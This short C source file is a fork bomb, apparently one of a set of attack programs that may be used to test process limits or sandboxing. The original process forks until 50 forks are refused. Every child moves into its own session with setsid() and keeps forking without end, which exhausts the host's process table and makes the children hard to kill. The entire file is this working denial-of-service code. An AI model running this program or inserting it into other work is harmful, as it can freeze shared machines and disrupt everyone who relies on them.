/* Forks without end, and its children do, each in a session of its own. The first process gives up after a while. */
#include "attack.h"

int main(void)
{
    pid_t first = getpid();
    for (int refused = 0; refused < 50 || getpid() != first;) {
        pid_t pid = fork();
        if (pid < 0)
            refused++;
        else if (pid == 0)
            setsid();
    }
    return 1;
}
